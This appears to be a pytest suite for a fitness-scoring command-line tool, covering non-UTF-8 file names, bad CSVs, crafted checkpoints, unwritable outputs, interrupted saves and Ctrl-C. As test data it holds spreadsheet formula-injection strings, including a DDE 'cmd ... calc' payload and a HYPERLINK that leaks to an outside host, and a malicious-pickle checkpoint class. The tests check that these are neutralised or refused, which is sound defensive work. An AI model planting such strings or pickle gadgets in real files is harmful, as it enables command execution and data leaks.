"""Hostile and unlucky input at the command line (issue 14): file names that are not UTF-8,
CSVs a spreadsheet saved oddly, damaged or crafted checkpoints, outputs that cannot be written,
spreadsheet formulas in results, interrupted saves, Ctrl-C. A refusal is one `error: ...`
line and exit status 2, given before the work; tiny inputs, tiny untrained models."""

import csv
import os
import re
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pytest
import torch
from test_scorers import _tiny_scorer

from fitscore_core.batch import run_batch
from fitscore_core.bench.demo_clip import write_demo_clip
from fitscore_core.cli import main
from fitscore_core.clip_eval import ClipResult, write_per_clip
from fitscore_core.errors import FitScoreError
from fitscore_core.pose.openpose_json import write_openpose
from fitscore_core.pose.sequence import PoseSequence
from fitscore_core.scorers.checkpoints import card_path, load_scorer, save_scorer
from fitscore_core.scorers.learner_job import METHODS, LearnerCV, write_learner_oof
from fitscore_core.scorers.train_job import CrossValidation, write_oof
from fitscore_core.user_files import read_rows, safe_cell, safe_row

ROOT = Path(__file__).resolve().parent.parent
NOT_UTF8 = os.fsdecode(b"client\xe9.mp4")     # what Python makes of the byte 0xE9 in a name
HOSTILE = ['=cmd|" /C calc"!A0', '=HYPERLINK("http://x.example/?leak","click")', "@SUM(1+1)",
           "+1+cmd", "-2+3", "\tx", "\rx"]


def run_cli(*args: str, **env: str) -> subprocess.CompletedProcess:
    """The CLI in its own process: a crash there (a segfault) cannot take pytest down."""
    return subprocess.run([sys.executable, "-m", "fitscore_core", *map(str, args)],
                          capture_output=True, cwd=ROOT,
                          env=os.environ | {"PYTHONPATH": str(ROOT)} | env)


def one_error(err: str) -> str:
    """The single `error: ...` line of a refusal (and no traceback)."""
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    return lines[0]


class WorkStarted(Exception):
    """Raised by a stand-in for the slow work: the check did not stop the command first."""


def forbid(monkeypatch, *targets: str) -> None:
    def work(*args, **kwargs):
        raise WorkStarted()
    for target in targets:
        monkeypatch.setattr(target, work)


@pytest.fixture(scope="module")
def squat_json(tmp_path_factory):
    truth = np.load(ROOT / "sample_videos/ground_truth/squat_good.npz")["keypoints"]
    folder = tmp_path_factory.mktemp("json") / "squat_good"
    write_openpose(PoseSequence(truth, 30.0, (640, 480), "squat_good"), folder, "squat_good")
    return folder


@pytest.fixture(scope="module")
def demo_video(tmp_path_factory):
    path = tmp_path_factory.mktemp("video") / "demo.mp4"
    write_demo_clip(path, n_frames=45)
    return path


# --- case 2: a file name that is not UTF-8 ---------------------------------------------------

@pytest.mark.parametrize("env", [{}, {"PYTHONIOENCODING": "utf-8:strict"}],
                         ids=["default", "strict-stdout"])
def test_info_opens_a_video_whose_name_is_not_utf8(env, demo_video, tmp_path):
    bad = tmp_path / NOT_UTF8
    shutil.copy(demo_video, bad)
    run = run_cli("info", bad, **env)
    assert run.returncode == 0, run.stderr.decode(errors="replace")
    out = run.stdout.decode()
    assert "client\\xe9.mp4" in out and "frames:    45" in out


def test_batch_scores_a_video_whose_name_is_not_utf8_and_goes_on(demo_video, squat_json,
                                                                 models_dir, tmp_path):
    folder = tmp_path / "clips"
    folder.mkdir()
    shutil.copy(demo_video, folder / NOT_UTF8)          # listed first
    shutil.copytree(squat_json, folder / "squat_good")
    out = tmp_path / "results.csv"
    run = run_cli("batch", folder, "--out", out, "--models", models_dir, "--no-cache")
    assert run.returncode == 0, run.stderr.decode(errors="replace")
    with out.open(newline="", encoding="utf-8") as f:
        first, second = csv.DictReader(f)
    assert first["path"] == "client\\xe9.mp4"
    assert "not a video" not in first["error"] and "damaged" not in first["error"]
    assert second["path"] == "squat_good" and second["error"] == ""
    assert 0 <= float(second["cnn1d_score"]) <= 100


# --- case 10: LABELS.csv not in UTF-8, or with a giant cell -----------------------------------

LATIN1 = "path,exercise,score\nclienté.mp4,squat,80\n".encode("latin-1")
GIANT = ("path,exercise,score\n" + "a" * 140_000 + ",squat,80\n").encode()


@pytest.mark.parametrize("content, message", [
    (LATIN1, r"LABELS.csv is not UTF-8 text .*save it as UTF-8"),
    (GIANT, r"LABELS.csv row 2: a cell is longer than 131,072 characters")],
    ids=["latin-1", "giant-cell"])
def test_train_evaluate_and_batch_refuse_a_csv_they_cannot_read(content, message, models_dir,
                                                                tmp_path, capsys):
    labels = tmp_path / "LABELS.csv"
    labels.write_bytes(content)
    commands = [["train", "--model", "cnn1d", "--data", labels, "--init",
                 models_dir / "cnn1d.pt", "--out", tmp_path / "m.pt"],
                ["evaluate", "--data", labels, "--models", models_dir],
                ["batch", labels, "--out", tmp_path / "out.csv", "--models", models_dir]]
    for argv in commands:
        assert main(list(map(str, argv))) == 2
        assert re.search(message, one_error(capsys.readouterr().err)), argv


def test_read_rows_keeps_a_utf8_csv_with_a_bom(tmp_path):
    path = tmp_path / "list.csv"
    path.write_bytes("path,exercise\nclienté.mp4,squat\n".encode("utf-8-sig"))
    assert read_rows(path) == [["path", "exercise"], ["clienté.mp4", "squat"]]


# --- case 12: damaged and crafted checkpoints --------------------------------------------------

def test_an_empty_checkpoint_is_one_clear_error(tmp_path, capsys):
    empty = tmp_path / "e.pt"
    empty.write_bytes(b"")
    labels = tmp_path / "LABELS.csv"
    labels.write_text("path,exercise,score\n")
    for argv in (["evaluate", "--model", empty],
                 ["train", "--model", "cnn1d", "--data", labels, "--init", empty, "--out",
                  tmp_path / "m.pt"]):
        assert main(list(map(str, argv))) == 2
        line = one_error(capsys.readouterr().err)
        assert "e.pt is empty (0 bytes)" in line


def test_a_corrupt_model_card_is_named(tmp_path):
    save_scorer(_tiny_scorer(), tmp_path / "m.pt")
    card_path(tmp_path / "m.pt").write_text('{"model": "cnn1d", ')
    with pytest.raises(FitScoreError, match=r"m.json, the model card of m.pt, is damaged"):
        load_scorer(tmp_path / "m.pt")
    card_path(tmp_path / "m.pt").write_text("[1, 2]")
    with pytest.raises(FitScoreError, match=r"m.json, the model card of m.pt, is damaged"):
        load_scorer(tmp_path / "m.pt")


def _crafted(tmp_path, name="cnn1d", **changes) -> Path:
    """A checkpoint with our format tag, as save_scorer writes it, then changed."""
    save_scorer(_tiny_scorer(name), tmp_path / "good.pt")
    payload = torch.load(tmp_path / "good.pt", weights_only=True)
    for key, value in changes.items():
        if value is None:
            payload.pop(key)
        else:
            payload[key] = value
    torch.save(payload, tmp_path / "crafted.pt")
    return tmp_path / "crafted.pt"


@pytest.mark.parametrize("name, changes, message", [
    ("cnn1d", {"exercises": None}, r"'exercises' is missing"),
    ("cnn1d", {"state_dict": None}, r"'state_dict' is missing"),
    ("cnn1d", {"architecture": None}, r"'architecture' is missing"),
    ("cnn1d", {"config": {"width": 16, "colour": "red"}}, r"unknown setting\(s\) colour"),
    ("cnn1d", {"config": {"width": 200_000}}, r"width 200000 is outside 1-512"),
    ("cnn1d", {"config": {"width": True}}, r"width True is not a whole number"),
    ("cnn1d", {"config": {"dilations": [1, 0]}}, r"dilations"),
    ("cnn1d", {"config": {"dropout": 1.5}}, r"dropout 1.5 is outside 0-0.9"),
    ("cnn1d", {"config": "big"}, r"'config' is not a table of settings"),
    ("lstm", {"config": {"hidden": 16, "layers": 1000}}, r"layers 1000 is outside 1-8"),
    ("lstm", {"config": {"width": 16}}, r"unknown setting\(s\) width"),
    ("cnn1d", {"exercises": ["squat", 5]}, r"'exercises' is not a list of names"),
    ("cnn1d", {"exercises": ["x"] * 5000}, r"5000 exercises"),
    ("cnn1d", {"features": {"fps": 15.0}}, r"feature settings .*missing"),
    ("cnn1d", {"features": {"fps": 15.0, "n_frames": 150, "window_stride": 75,
                            "min_confidence": 0.3, "normalization": "x", "extra": 1}},
     r"feature settings .*unknown"),
    ("cnn1d", {"temperature": float("nan")}, r"temperature"),
    ("cnn1d", {"temperature": "hot"}, r"temperature"),
    ("cnn1d", {"state_dict": {"x": 1}}, r"'state_dict' is not a table of tensors"),
    ("cnn1d", {"state_dict": {"x": torch.zeros(2)}}, r"does not match its architecture"),
])
def test_crafted_checkpoints_are_refused_before_a_network_is_built(name, changes, message,
                                                                   tmp_path, monkeypatch):
    path = _crafted(tmp_path, name, **changes)
    if "does not match" not in message:          # that one is found by building the network
        forbid(monkeypatch, "fitscore_core.scorers.checkpoints.build_net")
    with pytest.raises(FitScoreError, match=message) as refused:
        load_scorer(path)
    assert "crafted.pt" in str(refused.value)


def test_a_rewritten_good_checkpoint_still_loads(tmp_path):
    """The checks refuse what is wrong, not what _crafted does to a good checkpoint."""
    good = _crafted(tmp_path, temperature=1.5)
    assert load_scorer(good).temperature == 1.5 and load_scorer(good).learner is None


def test_an_unsafe_checkpoint_is_refused_without_torchs_advice(tmp_path):
    class Evil:
        def __reduce__(self):
            return (print, ("pwned",))
    torch.save({"format": "fitscore-scorer", "x": Evil()}, tmp_path / "evil.pt")
    with pytest.raises(FitScoreError, match="evil.pt is not a FitScore checkpoint") as refused:
        load_scorer(tmp_path / "evil.pt")
    message = str(refused.value)
    assert "weights" not in message.lower() and "still be loaded" not in message


# --- case 13: outputs checked before the work ---------------------------------------------------

SLOW = ("fitscore_core.analysis.load_scorers", "fitscore_core.analysis.analyze",
        "fitscore_core.pose.inputs.load_sequence", "fitscore_core.scorers.checkpoints.load_scorer",
        "fitscore_core.synth.dataset.generate_dataset", "fitscore_core.clip_eval.evaluate_clips",
        "fitscore_core.scorers.learner_job.learn_from_labels",
        "fitscore_core.scorers.train_job.train_from_labels", "fitscore_core.batch.load_scorers")


@pytest.mark.parametrize("argv, message", [
    (["analyze", "{clip}", "--json", "{tmp}/nodir/x.json"], "--json {tmp}/nodir/x.json: the "
     "folder {tmp}/nodir does not exist"),
    (["analyze", "{clip}", "--json", "{tmp}"], "--json {tmp}: that is a folder"),
    (["analyze", "{clip}", "--json", "{file}/x.json"], "--json {file}/x.json: {file} is a "
     "file, not a folder"),
    (["evaluate", "--model", "{tmp}/m.pt", "--json", "{tmp}/nodir/e.json"],
     "--json {tmp}/nodir/e.json: the folder {tmp}/nodir does not exist"),
    (["evaluate", "--data", "{labels}", "--per-clip", "{tmp}"], "--per-clip {tmp}: that is a "
     "folder"),
    (["evaluate", "--data", "{labels}", "--json", "{tmp}/nodir/e.json"],
     "--json {tmp}/nodir/e.json: the folder"),
    (["train", "--model", "cnn1d", "--out", "{tmp}"], "--out {tmp}: that is a folder"),
    (["train", "--model", "cnn1d", "--out", "{tmp}/m.json"], "--out {tmp}/m.json: the model "
     "card is written beside the checkpoint"),
    (["train", "--model", "cnn1d", "--data", "{labels}", "--out", "{tmp}"], "--out {tmp}: "
     "that is a folder"),
    (["train", "--model", "cnn1d", "--data", "{labels}", "--finetune", "--out", "{file}/m.pt"],
     "--out {file}/m.pt: {file} is a file"),
    (["train", "--model", "cnn1d", "--data", "{labels}", "--cv", "2", "--oof", "{tmp}"],
     "--oof {tmp}: that is a folder"),
    (["extract", "{clip}", "--out", "{file}"], "--out {file}: that is a file; give a folder"),
    (["batch", "{tmp}", "--out", "{tmp}"], "--out {tmp}: that is a folder"),
    (["batch", "{labels}", "--out", "{labels}"], "--out {labels}: that is the input file"),
    (["tensor", "{clip}", "--out", "{tmp}/nodir/x.npz"], "--out {tmp}/nodir/x.npz: the "
     "folder {tmp}/nodir does not exist"),
    (["bench", "real", "--real", "{tmp}", "--json", "{tmp}/nodir/r.json"],
     "--json {tmp}/nodir/r.json: the folder"),
])
def test_an_output_that_cannot_be_written_is_refused_before_the_work(argv, message, squat_json,
                                                                     tmp_path, monkeypatch,
                                                                     capsys):
    forbid(monkeypatch, *SLOW)
    (tmp_path / "a_file").write_text("x")
    (tmp_path / "LABELS.csv").write_text("path,exercise,score\n")
    names = {"clip": squat_json, "tmp": tmp_path, "file": tmp_path / "a_file",
             "labels": tmp_path / "LABELS.csv"}
    assert main([a.format(**names) for a in argv]) == 2
    assert message.format(**names) in one_error(capsys.readouterr().err)


@pytest.mark.parametrize("argv", [
    ["train", "--model", "cnn1d", "--out", "{tmp}/new/deeper/m.pt"],
    ["train", "--model", "cnn1d", "--data", "{labels}", "--cv", "2", "--oof",
     "{tmp}/new/oof.csv"],
    ["extract", "{clip}", "--out", "{tmp}/new/keypoints"],
    ["analyze", "{clip}", "--json", "{tmp}/a.json"],
    ["tensor", "{clip}", "--out", "{tmp}/x.npz"],
])
def test_outputs_the_writer_can_make_pass_the_check(argv, squat_json, tmp_path, monkeypatch):
    forbid(monkeypatch, *SLOW)
    (tmp_path / "LABELS.csv").write_text("path,exercise,score\n")
    names = {"clip": squat_json, "tmp": tmp_path, "labels": tmp_path / "LABELS.csv"}
    with pytest.raises(WorkStarted):
        main([a.format(**names) for a in argv])


# --- case 14: spreadsheet formulas in CSV cells -------------------------------------------------

def test_safe_cell_neutralises_formulas_and_round_trips_normal_values(tmp_path):
    assert [safe_cell(h) for h in HOSTILE] == ["'" + h for h in HOSTILE]
    normal = ["clips/squat 1.mp4", "squat", "knees_caving_in;shallow", "unknown", "", "87.5",
              "-3.2", "-12", "1e-3", "-4.5E+2", "client é.mp4", 42, -7.25, 0]
    assert safe_row(normal) == normal
    path = tmp_path / "t.csv"
    with path.open("w", newline="") as f:
        csv.writer(f).writerows([safe_row(normal), safe_row(HOSTILE)])
    back_normal, back_hostile = read_rows(path)
    assert back_normal == [str(v) for v in normal]
    assert back_hostile == ["'" + h for h in HOSTILE]


def _cells(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_batch_results_never_carry_a_formula(models_dir, squat_json, tmp_path):
    folder = tmp_path / "clips"
    folder.mkdir()
    named = "=cmd|' -C calc'!A0"                       # a file name holds no '/'
    shutil.copytree(squat_json, folder / named)
    (folder / "@SUM(1+1).zip").write_text("not a zip")
    out = tmp_path / "results.csv"
    rows = run_batch(folder, out, models_dir=models_dir)
    good, bad = sorted(_cells(out), key=lambda r: r["error"])
    assert [r["path"] for r in rows] == [named, "@SUM(1+1).zip"]   # returned raw
    assert good["path"] == "'" + named and good["error"] == ""
    assert 0 <= float(good["cnn1d_score"]) <= 100 and int(good["reps"]) >= 0
    assert bad["path"] == "'@SUM(1+1).zip" and bad["error"]
    for row in (good, bad):
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_out_of_fold_and_per_clip_csvs_neutralise_text_and_keep_numbers(tmp_path):
    cv = CrossValidation([], {}, {}, [{"source": HOSTILE[0], "exercise": "squat", "score": 80.0,
                                       "pred_exercise": "@SUM(1)", "pred_score": 70.25}])
    (row,) = read_rows(write_oof(tmp_path / "oof.csv", cv))[1:]
    assert row == ["'" + HOSTILE[0], "squat", "80", "'@SUM(1)", "70.2"]

    learner = LearnerCV(2, {}, {}, {}, None, [
        {"source": HOSTILE[1], "fold": 1, "exercise": "+squat", "score": 50.0,
         "pred_exercise": "-x"} | {f"{m}_score": -1.5 for m in METHODS}])
    (row,) = read_rows(write_learner_oof(tmp_path / "learner.csv", learner))[1:]
    assert row == ["'" + HOSTILE[1], "1", "'+squat", "50", "'-x"] + ["-1.5"] * len(METHODS)

    result = ClipResult(HOSTILE[2], "squat", {"cnn1d": "squat"}, good=True, reps=-1,
                        error="=1+1")
    write_per_clip([result], tmp_path / "per_clip.csv")
    (written,) = _cells(tmp_path / "per_clip.csv")
    assert written["path"] == "'" + HOSTILE[2] and written["error"] == "'=1+1"
    assert written["reps"] == "-1" and written["good"] == "1"


# --- case 15: checkpoint and card are one unit ---------------------------------------------------

KILLED_SAVE = """
import os, signal, sys, torch
sys.path.insert(0, {tests!r})
from test_scorers import _tiny_scorer
from fitscore_core.scorers import checkpoints
path = {path!r}
checkpoints.save_scorer(_tiny_scorer(), path)          # a complete pair
later = _tiny_scorer()
later.temperature = 3.0
{sabotage}
checkpoints.save_scorer(later, path)
"""


def _killed_save(tmp_path, sabotage: str) -> Path:
    path = tmp_path / "keep.pt"
    script = KILLED_SAVE.format(tests=str(ROOT / "tests"), path=str(path),
                                sabotage=textwrap.dedent(sabotage))
    run = subprocess.run([sys.executable, "-c", script], capture_output=True, cwd=ROOT,
                         env=os.environ | {"PYTHONPATH": str(ROOT)})
    assert run.returncode == -9, run.stderr.decode()      # it really was killed
    return path


def test_a_save_killed_after_the_checkpoint_is_replaced_is_caught_at_load(tmp_path):
    path = _killed_save(tmp_path, """
        replace = os.replace
        def replace_then_die(src, dst):
            replace(src, dst)
            if str(dst).endswith(".pt"):
                os.kill(os.getpid(), signal.SIGKILL)
        os.replace = replace_then_die
    """)
    assert torch.load(path, weights_only=True)["temperature"] == 3.0   # new weights, old card
    with pytest.raises(FitScoreError, match=r"keep.json is stale: it describes an earlier "
                                            r"save than keep.pt") as refused:
        load_scorer(path)
    assert "train again" in str(refused.value)
    save_scorer(_tiny_scorer(), path)                     # saving again mends the pair
    assert load_scorer(path).temperature == 1.0


def test_a_save_killed_while_writing_leaves_no_temp_file_after_the_next_save(tmp_path):
    path = _killed_save(tmp_path, """
        def half_then_die(payload, f):
            open(f, "wb").write(b"PK half a checkpoint")
            os.kill(os.getpid(), signal.SIGKILL)
        torch.save = half_then_die
    """)
    left = [p.name for p in tmp_path.iterdir() if p.name.startswith(".keep.pt.")]
    assert left, "the killed save should have left its temp file"
    assert load_scorer(path).temperature == 1.0           # the old pair is intact
    alive = tmp_path / f".keep.pt.{os.getpid()}.live.tmp"   # a save running right now
    alive.write_bytes(b"")
    save_scorer(_tiny_scorer(), path)
    assert sorted(p.name for p in tmp_path.iterdir()) == [alive.name, "keep.json", "keep.pt"]


def test_an_old_checkpoint_under_a_newer_card_is_named_stale(tmp_path):
    save_scorer(_tiny_scorer(), tmp_path / "m.pt")
    shutil.copy(tmp_path / "m.pt", tmp_path / "old.pt")
    save_scorer(_tiny_scorer(), tmp_path / "m.pt")
    shutil.copy(tmp_path / "old.pt", tmp_path / "m.pt")     # one file of the pair put back
    with pytest.raises(FitScoreError, match=r"m.pt is stale: m.json describes a later save"):
        load_scorer(tmp_path / "m.pt")


def test_a_card_from_before_digests_still_loads(tmp_path):
    """The shipped models' cards have no digest: they must keep loading."""
    save_scorer(_tiny_scorer(), tmp_path / "m.pt")
    card_path(tmp_path / "m.pt").write_text('{"note": "old card"}\n')
    assert load_scorer(tmp_path / "m.pt").card == {"note": "old card"}


# --- case 16: Ctrl-C ------------------------------------------------------------------------------

def test_ctrl_c_prints_interrupted_and_exits_130(squat_json):
    script = textwrap.dedent(f"""
        import runpy, signal, sys
        import fitscore_core.cli as cli
        # as in a terminal, whatever the parent did (a background job starts with SIGINT ignored)
        signal.signal(signal.SIGINT, signal.default_int_handler)
        def ctrl_c(*args, **kwargs):
            signal.raise_signal(signal.SIGINT)
        cli.cmd_info = ctrl_c               # the command's work, whatever it calls
        sys.argv = ["fitscore_core", "info", {str(squat_json)!r}]
        runpy.run_module("fitscore_core", run_name="__main__")
    """)
    run = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                         cwd=ROOT, env=os.environ | {"PYTHONPATH": str(ROOT)})
    assert run.returncode == 130 and run.stderr == "interrupted\n", run.stderr
